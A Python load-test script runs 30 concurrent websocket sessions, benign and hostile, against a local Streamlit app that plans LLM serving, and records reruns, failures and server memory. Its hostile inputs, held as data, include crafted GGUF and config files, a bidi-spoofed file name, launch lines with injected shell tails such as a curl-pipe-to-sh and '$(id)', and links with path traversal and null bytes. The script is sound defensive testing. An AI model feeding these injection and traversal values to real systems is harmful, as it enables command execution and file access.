"""Load test: 30 concurrent sessions against a real ``streamlit run app.py`` on 127.0.0.1 (issue 26).

    python benchmarks/load.py            # prints a table, writes benchmarks/load_results.md

Each session speaks Streamlit's own websocket protocol (``/_stcore/stream``: protobuf ``BackMsg`` up,
``ForwardMsg`` down, the messages a browser tab exchanges), so 30 sessions cost the client almost
nothing and the server does all the work a browser would make it do. Uploads go the browser's way
too: a ``file_urls_request``, an HTTP PUT of the file to the URL the server gives, then a rerun with
the uploader's widget state naming the file.

* benign sessions (:data:`BENIGN`): open the Planner on a bundled model, GPU and runtime from a link,
  then change the Batch input a few times (one rerun each);
* hostile sessions (:data:`HOSTILE`): upload crafted .gguf headers (block_count 2^63, 2^32 - 1 with
  one tensor, no tensors, claimed counts beyond the file, 1.5 MiB and 16 MiB of noise: the app's
  ``server.maxUploadSize`` is 2 MB, so the larger is refused by the server, HTTP 413) under llama.cpp, crafted
  config.json files (deep nesting, 2^63 layers, NaN, bidi names, 1 MiB + 1 byte), paste hostile
  launch lines (shell tails, out-of-range values, bidi controls, unbalanced quotes, 4,001 characters)
  and open hostile share links (non-finite and out-of-range values).

Counted per session: reruns, seconds per rerun, and failures: an ``exception`` element, a script
that did not finish, a rerun over :data:`RERUN_S` s, a broken connection, or (benign) a rerun that
drew no plan (its :data:`PLAN_METRIC` metric). A benign session must see none of these. Error
alerts are counted apart: a "does not fit" verdict or a hostile input's refusal is output, not a
failure; a hostile session's exception elements are listed. The server's resident memory (``VmRSS`` of its
process) is sampled every :data:`SAMPLE_S` s. Everything stops after :data:`BUDGET_S` s.

Loopback only; the server runs with ``server.enableXsrfProtection false`` (the test client holds no
XSRF cookie) and its usage statistics off. Nothing here is asserted by the test suite.
"""
from __future__ import annotations

import asyncio
import http.client
import os
import random
import socket
import statistics
import struct
import subprocess
import sys
import threading
import time
import urllib.request
import uuid
from dataclasses import dataclass, field
from typing import Any

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
BENIGN, HOSTILE = 20, 10          # 30 sessions in all
BUDGET_S = 280.0                  # the whole run, server start included, stays under 5 minutes
RERUN_S = 90.0                    # one rerun on a loaded machine
SAMPLE_S = 2.0
BENIGN_RERUNS = 4                 # batch changes per benign session after its first render
ROUNDS = 4                        # the 30 sessions are run this many times (while the budget lasts): flat RSS
OUT = os.path.join(ROOT, "benchmarks", "load_results.md")
PLAN_METRIC = "KV cache / GPU"    # a benign rerun must draw the plan's headline


# ---- hostile inputs --------------------------------------------------------------------------------

def _gstr(s: str) -> bytes:
    b = s.encode()
    return struct.pack("<Q", len(b)) + b


def _gguf(kvs: list[bytes], tensors: list[bytes], n_tensors: int | None = None, n_kv: int | None = None) -> bytes:
    return b"GGUF" + struct.pack("<IQQ", 3, len(tensors) if n_tensors is None else n_tensors,
                                 len(kvs) if n_kv is None else n_kv) + b"".join(kvs) + b"".join(tensors)


_ARCH = _gstr("general.architecture") + struct.pack("<I", 8) + _gstr("llama")
_NORM = _gstr("blk.0.attn_norm.weight") + struct.pack("<IQIQ", 1, 32, 0, 0)
HOSTILE_GGUF: dict[str, bytes] = {
    "block_count_2_63.gguf": _gguf([_ARCH, _gstr("llama.block_count") + struct.pack("<IQ", 10, 2**63)], []),
    "block_count_u32_max.gguf": _gguf([_ARCH, _gstr("llama.block_count") + struct.pack("<II", 4, 2**32 - 1)], [_NORM]),
    "no_tensors.gguf": _gguf([_ARCH], []),
    "kv_count_claim.gguf": _gguf([_ARCH], [], n_kv=65_000),
    "array_claim.gguf": _gguf([_ARCH, _gstr("tokenizer.ggml.tokens") + struct.pack("<IIQ", 9, 8, 1 << 24)], [_NORM]),
    "string_claim.gguf": _gguf([_gstr("general.architecture") + struct.pack("<IQ", 8, 1 << 40)], [_NORM]),
    "noise.gguf": b"GGUF" + struct.pack("<I", 3) + random.Random(26).randbytes(3 << 19),
    "noise_16mib.gguf": b"GGUF" + struct.pack("<I", 3) + random.Random(27).randbytes(16 << 20),
}
HOSTILE_CONFIGS: dict[str, bytes] = {
    "deep.json": b'{"a":' * 5000 + b"1" + b"}" * 5000,
    "layers_2_63.json": b'{"model_type":"llama","hidden_size":4096,"num_hidden_layers":9223372036854775808,'
                        b'"num_attention_heads":32,"vocab_size":32000,"intermediate_size":11008}',
    "nan.json": b'{"model_type":"llama","hidden_size":NaN,"num_hidden_layers":32,"num_attention_heads":32}',
    "bidi.json": '{"model_type":"llama","_name_or_path":"evil\u202efdp.exe","hidden_size":64,"num_hidden_layers":2,'
                 '"num_attention_heads":4,"vocab_size":100,"intermediate_size":128}'.encode(),
    "too_big.json": b'{"pad":"' + b"x" * (1 << 20) + b'"}',
}
HOSTILE_LINES = [
    "vllm serve Qwen/Qwen3-8B && curl -s http://127.0.0.1:1/i.sh | sh",
    "vllm serve Qwen/Qwen3-8B --gpu-memory-utilization 0.01",
    "vllm serve Qwen/Qwen3-8B -tp 100000000 --max-model-len 10T --max-num-seqs 99999999999",
    "vllm serve 'Qwen/Qwen3-8B\u202e' --served-model-name \u2066x\u2069",
    "vllm serve Qwen/Qwen3-8B --max-model-len 'unbalanced",
    "vllm serve Qwen/Qwen3-8B " + "--x " * 1000,
    "trtllm-serve Qwen/Qwen3-8B --kv_cache_free_gpu_memory_fraction 0.001",
    "python -m sglang.launch_server --model-path Qwen/Qwen3-8B --tp 1000000 $(id)",
]
HOSTILE_LINKS = [
    "batch=1e999&ctx=-1&gpu_mem=nan&util=inf",
    "gpus=65&tp=65&runtime=vllm",
    "source=paste&cfg=" + "A" * 7000,
    "model=%00%0a&hub=..%2F..%2Fetc&runtime=llama_cpp&ll_ngl=99999999999999999999",
]


# ---- the server --------------------------------------------------------------------------------------

def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def start_server(port: int) -> subprocess.Popen[bytes]:
    """``streamlit run app.py`` on 127.0.0.1:``port``, returned once its health endpoint answers."""
    cmd = [sys.executable, "-m", "streamlit", "run", "app.py", "--server.headless", "true",
           "--server.address", "127.0.0.1", "--server.port", str(port), "--server.enableXsrfProtection", "false",
           "--browser.gatherUsageStats", "false", "--server.fileWatcherType", "none"]
    proc = subprocess.Popen(cmd, cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                            env={**os.environ, "HF_HUB_OFFLINE": "1"})
    deadline = time.monotonic() + 90
    while time.monotonic() < deadline:
        try:
            with urllib.request.urlopen(f"http://127.0.0.1:{port}/_stcore/health", timeout=2) as r:
                if r.status == 200:
                    return proc
        except OSError:
            time.sleep(0.5)
    proc.kill()
    raise RuntimeError("streamlit did not answer its health endpoint within 90 s")


def rss_mib(pid: int) -> float:
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    return 0.0


def sample_rss(pid: int, stop: threading.Event, out: list[tuple[float, float]]) -> None:
    start = time.monotonic()
    while not stop.is_set():
        try:
            out.append((time.monotonic() - start, rss_mib(pid)))
        except OSError:
            return
        stop.wait(SAMPLE_S)


# ---- one session -----------------------------------------------------------------------------------------

@dataclass
class Session:
    """What one session saw."""

    name: str
    hostile: bool
    reruns: int = 0
    seconds: list[float] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)         # failures (benign: must stay empty)
    refusals: int = 0                                        # error alerts (hostile: the expected refusals)
    exceptions: list[str] = field(default_factory=list)      # exception elements
    too_large: int = 0                                       # uploads the server refused by size (413)


class Client:
    """One websocket session: reruns with widget states, uploads, and the elements each rerun drew."""

    def __init__(self, port: int, session: Session):
        self.port, self.s = port, session
        self.ws: Any = None
        self.session_id = ""
        self.widgets: dict[str, Any] = {}        # widget key suffix -> element proto (the last drawn)
        self.states: dict[str, Any] = {}         # widget id -> WidgetState sent with every rerun
        self.file_urls: Any = None
        self.metrics: set[str] = set()           # metric labels drawn by the last rerun

    async def __aenter__(self) -> "Client":
        import websockets
        from websockets.typing import Subprotocol
        self.ws = await websockets.connect(f"ws://127.0.0.1:{self.port}/_stcore/stream",
                                           subprotocols=[Subprotocol("streamlit")], max_size=1 << 27,
                                           open_timeout=60, ping_interval=None)
        return self

    async def __aexit__(self, *exc: object) -> None:
        await self.ws.close()

    async def rerun(self, query: str = "") -> None:
        from streamlit.proto.BackMsg_pb2 import BackMsg
        m = BackMsg()
        m.rerun_script.query_string = query
        m.rerun_script.widget_states.widgets.extend(self.states.values())
        start = time.monotonic()
        self.metrics = set()
        await self.ws.send(m.SerializeToString())
        try:
            await asyncio.wait_for(self._until_finished(), RERUN_S)
        except asyncio.TimeoutError:
            self.s.errors.append(f"rerun over {RERUN_S:g} s")
        if not self.s.hostile and PLAN_METRIC not in self.metrics:
            self.s.errors.append(f"no '{PLAN_METRIC}' metric drawn (no plan)")
        self.s.reruns += 1
        self.s.seconds.append(time.monotonic() - start)

    async def _until_finished(self) -> None:
        from streamlit.proto.ForwardMsg_pb2 import ForwardMsg
        while True:
            f = ForwardMsg()
            f.ParseFromString(await self.ws.recv())
            kind = f.WhichOneof("type")
            if kind == "new_session":
                self.session_id = f.new_session.initialize.session_id
            elif kind == "delta" and f.delta.WhichOneof("type") == "new_element":
                self._element(f.delta.new_element)
            elif kind == "script_finished":
                if f.script_finished in (0, 3):          # FINISHED_SUCCESSFULLY / FRAGMENT_RUN_SUCCESSFULLY
                    return
                if f.script_finished == 1:
                    self.s.errors.append("script did not finish (compile error)")
                    return
            elif kind == "file_urls_response":
                self.file_urls = f.file_urls_response

    def _element(self, e: Any) -> None:
        kind = e.WhichOneof("type")
        sub = getattr(e, kind)
        if kind == "exception":
            self.s.exceptions.append(f"{sub.type}: {sub.message[:120]}")
            if not self.s.hostile:
                self.s.errors.append(f"exception {sub.type}: {sub.message[:120]}")
        elif kind == "alert" and sub.format == 1:
            self.s.refusals += 1              # a refusal or a "does not fit" verdict: output, not a failure
        elif kind == "metric":
            self.metrics.add(sub.label)
        wid = getattr(sub, "id", "") if kind not in ("exception", "alert") else ""
        if isinstance(wid, str) and wid.startswith("$$ID-"):
            self.widgets[wid.rsplit("-", 1)[-1]] = sub

    def set_int(self, key: str, value: int) -> None:
        from streamlit.proto.WidgetStates_pb2 import WidgetState
        w = WidgetState(id=self.widgets[key].id)
        w.int_value = value
        self.states[w.id] = w

    def set_text(self, key: str, value: str) -> None:
        from streamlit.proto.WidgetStates_pb2 import WidgetState
        w = WidgetState(id=self.widgets[key].id)
        w.string_value = value
        self.states[w.id] = w

    def trigger(self, key: str) -> None:
        from streamlit.proto.WidgetStates_pb2 import WidgetState
        w = WidgetState(id=self.widgets[key].id)
        w.trigger_value = True
        self.states[w.id] = w

    async def upload(self, key: str, name: str, data: bytes, query: str) -> None:
        """The browser's upload: file URLs from the server, a multipart PUT, a rerun naming the file."""
        from streamlit.proto.BackMsg_pb2 import BackMsg
        from streamlit.proto.WidgetStates_pb2 import WidgetState
        m = BackMsg()
        m.file_urls_request.request_id = uuid.uuid4().hex
        m.file_urls_request.file_names.append(name)
        m.file_urls_request.session_id = self.session_id
        self.file_urls = None
        await self.ws.send(m.SerializeToString())
        from streamlit.proto.ForwardMsg_pb2 import ForwardMsg
        while self.file_urls is None:
            f = ForwardMsg()
            f.ParseFromString(await asyncio.wait_for(self.ws.recv(), RERUN_S))
            if f.WhichOneof("type") == "file_urls_response":
                self.file_urls = f.file_urls_response
        urls = self.file_urls.file_urls[0]
        status = await asyncio.to_thread(_put, self.port, urls.upload_url, name, data)
        if status == 413:                     # over server.maxUploadSize: refused before the app sees it
            self.s.refusals += 1
            self.s.too_large += 1
            return
        if status not in (200, 204):
            raise RuntimeError(f"upload of {name} answered {status}")
        w = WidgetState(id=self.widgets[key].id)
        info = w.file_uploader_state_value.uploaded_file_info.add()
        info.file_id, info.name, info.size = urls.file_id, name, len(data)
        info.file_urls.CopyFrom(urls)
        self.states[w.id] = w
        await self.rerun(query)


def _put(port: int, url: str, name: str, data: bytes) -> int:
    boundary = uuid.uuid4().hex
    body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\n"
            "Content-Type: application/octet-stream\r\n\r\n").encode() + data + f"\r\n--{boundary}--\r\n".encode()
    path = url if url.startswith("/") else "/" + url.split("/", 3)[-1]
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=RERUN_S)
    conn.request("PUT", path, body, {"Content-Type": f"multipart/form-data; boundary={boundary}"})
    status = conn.getresponse().status
    conn.close()
    return status


# ---- the scenarios ---------------------------------------------------------------------------------------

BENIGN_MODELS = ["Qwen/Qwen3-8B", "Qwen/Qwen2.5-7B-Instruct", "Qwen/Qwen3-0.6B", "Qwen/Qwen3-30B-A3B", "Qwen/Qwen3-32B",
                 "deepseek-ai/DeepSeek-V2-Lite", "Qwen/Qwen2-7B"]
"""Bundled models every benign runtime plans (each has a plan under vllm, sglang, tensorrt_llm,
transformers and ideal in tests/golden/plans.json.gz), so a missing plan is a failure, not a refusal."""


async def benign(port: int, s: Session, i: int, stop_at: float) -> None:
    model = BENIGN_MODELS[i % len(BENIGN_MODELS)]
    runtime = ("vllm", "sglang", "tensorrt_llm", "transformers", "ideal")[i % 5]
    query = f"model={model}&gpu=h100-sxm&runtime={runtime}&ctx=8192"
    async with Client(port, s) as c:
        await c.rerun(query)
        for n in range(BENIGN_RERUNS):
            if time.monotonic() > stop_at or "batch" not in c.widgets:
                if "batch" not in c.widgets:
                    s.errors.append("no Batch input drawn")
                return
            c.set_int("batch", (1, 2, 4, 8, 16)[(i + n) % 5])
            await c.rerun(query)


async def hostile(port: int, s: Session, i: int, stop_at: float) -> None:
    rng = random.Random(i)
    async with Client(port, s) as c:
        await c.rerun("runtime=llama_cpp&gpu=h100-sxm")
        for name, data in list(HOSTILE_GGUF.items())[i % 3::3] + [(n, d) for n, d in HOSTILE_GGUF.items()
                                                                   if n == "block_count_2_63.gguf"]:
            if time.monotonic() > stop_at or "gguf_upload" not in c.widgets:
                break
            await c.upload("gguf_upload", name, data, "runtime=llama_cpp&gpu=h100-sxm")
        for line in rng.sample(HOSTILE_LINES, 3):
            if time.monotonic() > stop_at or "vllm_cmd" not in c.widgets:
                break
            c.set_text("vllm_cmd", line)
            c.trigger("vllm_cmd_apply")
            await c.rerun("runtime=vllm&gpu=h100-sxm")
            c.states = {k: v for k, v in c.states.items() if not v.trigger_value}
    async with Client(port, s) as c:
        await c.rerun("source=paste")
        for name, data in list(HOSTILE_CONFIGS.items())[i % 2::2]:
            if time.monotonic() > stop_at or "uploaded" not in c.widgets:
                break
            await c.upload("uploaded", name, data, "source=paste")
    for link in HOSTILE_LINKS[i % 2::2]:
        if time.monotonic() > stop_at:
            break
        async with Client(port, s) as c:
            await c.rerun(link)


async def guarded(coro: Any, s: Session) -> None:
    try:
        await coro
    except Exception as e:                  # a broken connection or upload is a failure of the session
        s.errors.append(f"{type(e).__name__}: {str(e)[:120]}")


async def run_all(port: int, stop_at: float) -> list[Session]:
    sessions = [Session(f"benign-{i}", False) for i in range(BENIGN)] + \
               [Session(f"hostile-{i}", True) for i in range(HOSTILE)]
    tasks = [guarded(benign(port, s, i, stop_at), s) for i, s in enumerate(sessions[:BENIGN])]
    tasks += [guarded(hostile(port, s, i, stop_at), s) for i, s in enumerate(sessions[BENIGN:])]
    await asyncio.wait_for(asyncio.gather(*tasks), max(stop_at - time.monotonic(), 1) + RERUN_S)
    return sessions


# ---- report ------------------------------------------------------------------------------------------------

def _row(label: str, group: list[Session]) -> str:
    secs = [x for s in group for x in s.seconds]
    med = statistics.median(secs) if secs else float("nan")
    worst = max(secs) if secs else float("nan")
    return (f"| {label} | {len(group)} | {sum(s.reruns for s in group)} | {med:.1f} | {worst:.1f} | "
            f"{sum(len(s.errors) for s in group)} | {sum(s.refusals for s in group)} | "
            f"{sum(len(s.exceptions) for s in group)} |")


def report(sessions: list[Session], rss: list[tuple[float, float]], wall: float, after: list[float]) -> str:
    benign_s = [s for s in sessions if not s.hostile]
    hostile_s = [s for s in sessions if s.hostile]
    mib = [m for _, m in rss]
    lines = [
        "# Load test (benchmarks/load.py)",
        "",
        f"{BENIGN + HOSTILE} concurrent websocket sessions against `streamlit run app.py` on 127.0.0.1, "
        f"{len(after)} rounds ({len(sessions)} sessions in all), {wall:.0f} s wall; machine: {os.cpu_count()} "
        f"cores shared with other work (load average {os.getloadavg()[0]:.1f} at the end), so the seconds are "
        "an upper bound.",
        "",
        "| sessions | n | reruns | median s/rerun | worst s | failures | error alerts | exceptions |",
        "|---|---|---|---|---|---|---|---|",
        _row("benign (plan, change batch)", benign_s),
        _row("hostile (GGUF / config uploads, pastes, links)", hostile_s),
        "",
        f"Server RSS: {mib[0]:.0f} MiB at start, peak {max(mib):.0f} MiB, {mib[-1]:.0f} MiB at the end "
        f"({len(mib)} samples every {SAMPLE_S:g} s); after each round: "
        + ", ".join(f"{m:.0f}" for m in after) + " MiB." if mib else "Server RSS: not sampled.",
        "",
        f"Hostile uploads refused by the server's 2 MB upload cap (HTTP 413): "
        f"{sum(s.too_large for s in hostile_s)}; every other hostile input reached the app. Error alerts are "
        "refusals (hostile) or 'does not fit' verdicts; exceptions are listed below.",
    ]
    failures = [f"- {s.name}: {e}" for s in sessions for e in s.errors if not s.hostile] + \
               [f"- {s.name} (hostile): {e}" for s in hostile_s for e in s.errors]
    exceptions = sorted({f"- {s.name}: {x}" for s in sessions for x in s.exceptions})
    if failures:
        lines += ["", "Failures:", *failures[:40]]
    if exceptions:
        lines += ["", "Exception elements:", *exceptions[:40]]
    return "\n".join(lines) + "\n"


def main() -> int:
    start = time.monotonic()
    port = _free_port()
    proc = start_server(port)
    stop = threading.Event()
    rss: list[tuple[float, float]] = []
    sampler = threading.Thread(target=sample_rss, args=(proc.pid, stop, rss), daemon=True)
    sampler.start()
    sessions: list[Session] = []
    after: list[float] = []                 # server RSS (MiB) after each round
    try:
        stop_at = start + BUDGET_S - RERUN_S
        for _ in range(ROUNDS):
            if time.monotonic() > stop_at - 30:
                break
            sessions += asyncio.run(run_all(port, stop_at))
            after.append(rss_mib(proc.pid))
    finally:
        stop.set()
        sampler.join(5)
        proc.terminate()
        try:
            proc.wait(10)
        except subprocess.TimeoutExpired:
            proc.kill()
    text = report(sessions, rss, time.monotonic() - start, after)
    print(text)
    with open(OUT, "w", encoding="utf-8") as f:
        f.write(text)
    return 1 if any(s.errors for s in sessions if not s.hostile) else 0


if __name__ == "__main__":
    sys.exit(main())
